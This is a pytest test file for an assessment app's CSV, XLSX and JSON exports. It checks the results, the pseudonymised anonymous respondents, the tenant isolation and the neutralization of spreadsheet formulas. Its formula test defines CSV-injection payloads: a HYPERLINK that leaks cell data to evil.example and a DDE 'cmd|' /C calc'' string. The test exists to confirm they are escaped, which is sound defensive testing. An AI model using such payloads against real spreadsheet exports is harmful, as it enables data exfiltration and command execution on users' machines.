"""Exports through the real app: the same numbers as /results, one CSV row per answer, the workbook's
sheets, pseudonyms for anonymous assessments, neutralized formulas, and 404 for another workspace."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from app.services.exports import CSV_COLUMNS, FORMULA_TRIGGERS
from tests.api.conftest import Tenant, pulse_answers

# openpyxl writes numbers with 16 significant digits (Excel itself shows 15): equal to that precision.
XLSX_PRECISION = 1e-14
SHEETS = ["Summary", "Dimensions", "Questions", "Answers", "Outcomes", "Recommendations"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
EVIL_NAME = "+cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def _no_background_sender(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CENTRICITY_WEBHOOK_SENDER", "false")


def push(client: TestClient, tenant: Tenant, assessment_id: str, level: int = 3, **person: Any) -> str:
    # A negative reported NPS: numbers must stay numbers, whatever their sign.
    answers = {**pulse_answers(client, tenant, level), "nps-latest": -20}
    body = {"role": "manager", "function": "sales", "answers": answers, **person}
    response = tenant.post(f"/assessments/{assessment_id}/responses", body)
    assert response.status_code == 201, response.text
    return response.json()["respondent_id"]  # type: ignore[no-any-return]


def csv_rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def workbook_of(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content))


def sheet_rows(workbook: Any, name: str) -> list[dict[str, Any]]:
    rows = list(workbook[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def same(value: Any, expected: Any) -> bool:
    if isinstance(expected, float):
        return bool(value == pytest.approx(expected, rel=XLSX_PRECISION))
    return bool(value == expected)


def summary(workbook: Any) -> dict[str, Any]:
    return {field: value for field, value in workbook["Summary"].iter_rows(values_only=True)}


@pytest.fixture
def scored(client: TestClient, tenant: Tenant) -> dict[str, Any]:
    """An open pulse assessment with three submitted responses at different levels."""
    assessment = tenant.open_assessment()
    for level in (2, 3, 5):
        push(client, tenant, assessment["id"], level, name=f"Person {level}", email=f"p{level}@example.com")
    return assessment


def test_json_export_holds_the_result_of_the_results_endpoint(tenant: Tenant, scored: dict[str, Any]) -> None:
    results = tenant.get(f"/assessments/{scored['id']}/results").json()
    response = tenant.get(f"/assessments/{scored['id']}/export.json")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["cache-control"] == "no-store"
    export = response.json()
    assert export["result"] == results
    assert export["assessment"]["id"] == scored["id"]
    assert export["assessment"]["organization_name"] == "Globex"
    assert export["questionnaire"] == {
        "id": "pulse",
        "version": scored["questionnaire_version"],
        "hash": scored["questionnaire_hash"],
        "title": "Customer-centricity pulse check",
    }
    assert len(export["respondents"]) == 3
    for person in export["respondents"]:  # anonymous: no submission time per pseudonym
        assert person["status"] == "submitted" and person["submitted_at"] is None
        assert len(person["answers"]) == 12
    maturity = next(a for p in export["respondents"] for a in p["answers"] if a["value"] == 3)
    assert maturity["score"] == 50.0


def test_csv_has_one_row_per_answer(tenant: Tenant, scored: dict[str, Any]) -> None:
    response = tenant.get(f"/assessments/{scored['id']}/export.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="[a-z0-9-]+-[0-9a-f]{8}\.csv"', response.headers["content-disposition"]
    ), response.headers["content-disposition"]
    rows = csv_rows(response.content)
    assert tuple(rows[0].keys()) == CSV_COLUMNS
    assert len(rows) == 3 * 12
    pseudonyms = [r["respondent"] for r in rows[::12]]
    assert pseudonyms == sorted(pseudonyms) and all(re.fullmatch(r"R\d{6}", p) for p in pseudonyms)
    strategy = next(r for r in rows if r["answer"] == "3" and r["question_id"] == "strategy-plan")
    assert strategy["dimension"] == "strategy"
    assert float(strategy["score"]) == 50.0
    assert strategy["question"] and strategy["submitted_at"] == ""
    nps = next(r for r in rows if r["question_id"] == "nps-latest")
    assert nps["answer"] == "-20"  # a number, not a formula: left as is
    assert nps["score"] == ""  # an outcome is reported, not scored


def test_xlsx_has_the_sheets_and_the_numbers_of_the_results(tenant: Tenant, scored: dict[str, Any]) -> None:
    results = tenant.get(f"/assessments/{scored['id']}/results").json()
    response = tenant.get(f"/assessments/{scored['id']}/export.xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["content-disposition"].endswith('.xlsx"')
    workbook = workbook_of(response.content)
    assert workbook.sheetnames == SHEETS

    facts = summary(workbook)
    overall = results["overall"]
    assert facts["Questionnaire id"] == "pulse"
    assert facts["Questionnaire hash"] == results["questionnaire"]["hash"]
    assert same(facts["Index (0-100)"], overall["index"])
    assert facts["Level"] == overall["level"]
    assert same(facts["Band low"], overall["band"]["low"]) and same(facts["Band high"], overall["band"]["high"])
    assert facts["Confidence"] == results["confidence"]["rating"]
    assert facts["Respondents in the result"] == 3

    dimensions = {row["dimension"]: row for row in sheet_rows(workbook, "Dimensions")}
    assert set(dimensions) == {d["id"] for d in results["dimensions"]}
    for dimension in results["dimensions"]:
        assert same(dimensions[dimension["id"]]["score"], dimension["score"])
        assert dimensions[dimension["id"]]["level"] == dimension["level"]
    questions = {row["question_id"]: row for row in sheet_rows(workbook, "Questions")}
    for question in results["questions"]:
        assert same(questions[question["id"]]["mean"], question["stats"]["mean"])
    outcomes = sheet_rows(workbook, "Outcomes")
    assert [o["question_id"] for o in outcomes] == [o["question_id"] for o in results["outcomes"]]
    recommendations = sheet_rows(workbook, "Recommendations")
    assert [r["recommendation_id"] for r in recommendations] == [r["id"] for r in results["recommendations"]]
    for row, recommendation in zip(recommendations, results["recommendations"], strict=True):
        assert same(row["priority"], recommendation["priority"])
    answers = sheet_rows(workbook, "Answers")
    assert len(answers) == 36 and tuple(answers[0]) == CSV_COLUMNS


def test_formulas_are_neutralized_in_csv_and_xlsx(client: TestClient, tenant: Tenant) -> None:
    assessment = tenant.open_assessment("customer-centricity", anonymity="named")
    invited = tenant.post(
        f"/assessments/{assessment['id']}/respondents",
        {"respondents": [{"role": "manager", "function": "sales", "name": EVIL_NAME, "email": "evil@example.com"}]},
    )
    assert invited.status_code == 201, invited.text
    token = invited.json()[0]["api_link"].rsplit("/", 1)[1]
    saved = client.put(
        f"/api/v1/respond/{token}/answers",
        json={
            "answers": {"strategy-customer-strategy": 2, "people-blocker": "@SUM(1+1)", "voice-recent-change": "-2+3"},
            "comments": {"strategy-customer-strategy": HYPERLINK},
        },
    )
    assert saved.status_code == 200, saved.text

    rows = csv_rows(tenant.get(f"/assessments/{assessment['id']}/export.csv").content)
    assert {r["name"] for r in rows} == {"'" + EVIL_NAME}
    by_question = {r["question_id"]: r for r in rows}
    assert by_question["strategy-customer-strategy"]["comment"] == "'" + HYPERLINK
    assert by_question["people-blocker"]["answer"] == "'@SUM(1+1)"
    assert by_question["voice-recent-change"]["answer"] == "'-2+3"
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_TRIGGERS), value

    workbook = workbook_of(tenant.get(f"/assessments/{assessment['id']}/export.xlsx").content)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
                    texts.append(cell.value)
    assert "'" + HYPERLINK in texts and "'" + EVIL_NAME in texts and "'@SUM(1+1)" in texts

    # JSON is data, not a spreadsheet: it keeps the text as written.
    export = tenant.get(f"/assessments/{assessment['id']}/export.json").json()
    (person,) = export["respondents"]
    assert person["name"] == EVIL_NAME and person["status"] == "in_progress"
    assert {a["question_id"]: a["comment"] for a in person["answers"]}["strategy-customer-strategy"] == HYPERLINK


def test_anonymous_export_names_no_one(client: TestClient, tenant: Tenant) -> None:
    assessment = tenant.open_assessment()
    assert assessment["anonymity"] == "anonymous"
    ids = [
        push(client, tenant, assessment["id"], name=f"Secret Person {n}", email=f"secret{n}@example.com")
        for n in range(3)
    ]
    listed = tenant.get(f"/assessments/{assessment['id']}/respondents").json()["items"]
    created_order = [r["id"] for r in listed]  # the list is in creation order
    assert sorted(created_order) == sorted(ids)

    csv_text = tenant.get(f"/assessments/{assessment['id']}/export.csv").content.decode("utf-8-sig")
    xlsx = workbook_of(tenant.get(f"/assessments/{assessment['id']}/export.xlsx").content)
    xlsx_text = "\n".join(
        str(value) for sheet in xlsx.worksheets for row in sheet.iter_rows(values_only=True) for value in row
    )
    json_text = tenant.get(f"/assessments/{assessment['id']}/export.json").text
    for text in (csv_text, xlsx_text, json_text):
        assert "Secret Person" not in text and "example.com" not in text
        for respondent_id in ids:
            assert respondent_id not in text

    export = tenant.get(f"/assessments/{assessment['id']}/export.json").json()
    pseudonyms = [p["id"] for p in export["respondents"]]
    assert len(set(pseudonyms)) == 3 and pseudonyms == sorted(pseudonyms)
    assert all(p["name"] is None and p["email"] is None for p in export["respondents"])
    # Stable: the same people keep the same pseudonyms in every export and format.
    rows = csv_rows(tenant.get(f"/assessments/{assessment['id']}/export.csv").content)
    assert sorted({r["respondent"] for r in rows}) == pseudonyms
    assert {r["name"] for r in rows} == {""} and {r["email"] for r in rows} == {""}
    assert tenant.get(f"/assessments/{assessment['id']}/export.json").json()["respondents"] == export["respondents"]


def test_named_export_shows_who_answered(client: TestClient, tenant: Tenant) -> None:
    assessment = tenant.open_assessment(anonymity="named")
    respondent_id = push(client, tenant, assessment["id"], name="Ada Lovelace", email="ada@example.com")
    export = tenant.get(f"/assessments/{assessment['id']}/export.json").json()
    (person,) = export["respondents"]
    assert (person["id"], person["name"], person["email"]) == (respondent_id, "Ada Lovelace", "ada@example.com")
    rows = csv_rows(tenant.get(f"/assessments/{assessment['id']}/export.csv").content)
    assert {(r["respondent"], r["name"], r["email"]) for r in rows} == {
        (respondent_id, "Ada Lovelace", "ada@example.com")
    }


def test_unsubmitted_answers_are_exported_but_not_scored(client: TestClient, tenant: Tenant) -> None:
    assessment = tenant.open_assessment(anonymity="named")
    push(client, tenant, assessment["id"])
    (token,) = tenant.invite(assessment["id"], ("frontline", "service"))
    assert client.put(f"/api/v1/respond/{token}/answers", json={"answers": {"strategy-plan": 1}}).status_code == 200
    tenant.invite(assessment["id"], ("executive", "leadership"))

    export = tenant.get(f"/assessments/{assessment['id']}/export.json").json()
    assert [p["status"] for p in export["respondents"]] == ["submitted", "in_progress", "invited"]
    assert [len(p["answers"]) for p in export["respondents"]] == [12, 1, 0]
    assert export["result"]["respondents"] == 1
    rows = csv_rows(tenant.get(f"/assessments/{assessment['id']}/export.csv").content)
    unsubmitted = [r for r in rows if r["respondent"] == export["respondents"][1]["id"]]
    assert len(unsubmitted) == 1 and unsubmitted[0]["submitted_at"] == ""
    assert float(unsubmitted[0]["score"]) == 0.0


def test_every_status_exports(client: TestClient, tenant: Tenant) -> None:
    draft = tenant.assessment(tenant.organization("Initech")["id"])
    for suffix in ("csv", "xlsx", "json"):
        assert tenant.get(f"/assessments/{draft['id']}/export.{suffix}").status_code == 200
    empty = tenant.get(f"/assessments/{draft['id']}/export.json").json()
    # Anonymous and no one submitted: withheld, progress only.
    assert empty["respondents"] == [] and empty["result"] is None and empty["withheld"] is True
    assert csv_rows(tenant.get(f"/assessments/{draft['id']}/export.csv").content) == []
    facts = summary(workbook_of(tenant.get(f"/assessments/{draft['id']}/export.xlsx").content))
    assert facts["Respondents submitted"] == 0 and "Index (0-100)" not in facts
    named = tenant.assessment(tenant.organization("Hooli")["id"], anonymity="named")
    empty = tenant.get(f"/assessments/{named['id']}/export.json").json()
    assert empty["respondents"] == [] and empty["result"]["overall"]["index"] is None

    running = tenant.open_assessment()
    push(client, tenant, running["id"])
    assert tenant.post(f"/assessments/{running['id']}/close").status_code == 200
    closed = tenant.get(f"/assessments/{running['id']}/export.json").json()
    assert closed["assessment"]["status"] == "closed" and closed["assessment"]["closed_at"]
    for suffix in ("csv", "xlsx"):
        assert tenant.get(f"/assessments/{running['id']}/export.{suffix}").status_code == 200


def test_another_workspace_gets_404(tenant: Tenant, other_tenant: Tenant, scored: dict[str, Any]) -> None:
    for suffix in ("csv", "xlsx", "json"):
        theirs = other_tenant.get(f"/assessments/{scored['id']}/export.{suffix}")
        missing = tenant.get(f"/assessments/00000000-0000-4000-8000-000000000000/export.{suffix}")
        for response in (theirs, missing):
            assert response.status_code == 404
            assert response.json() == {
                "error": "NotFound",
                "detail": {"message": "no such assessment", "problems": []},
            }
        assert tenant.get(f"/assessments/{scored['id']}/export.{suffix}").status_code == 200


def test_exports_need_an_api_key(client: TestClient, scored: dict[str, Any]) -> None:
    assert client.get(f"/api/v1/assessments/{scored['id']}/export.csv").status_code == 401


def test_exports_are_in_the_openapi_spec(client: TestClient) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    csv_path = paths["/api/v1/assessments/{assessment_id}/export.csv"]["get"]
    assert "text/csv" in csv_path["responses"]["200"]["content"]
    assert csv_path["summary"] and csv_path["description"]
    json_path = paths["/api/v1/assessments/{assessment_id}/export.json"]["get"]
    assert "AssessmentExport" in str(json_path["responses"]["200"])
    for path in ("/api/v1/webhooks", "/api/v1/webhooks/{webhook_id}", "/api/v1/webhooks/{webhook_id}/deliveries"):
        assert path in paths
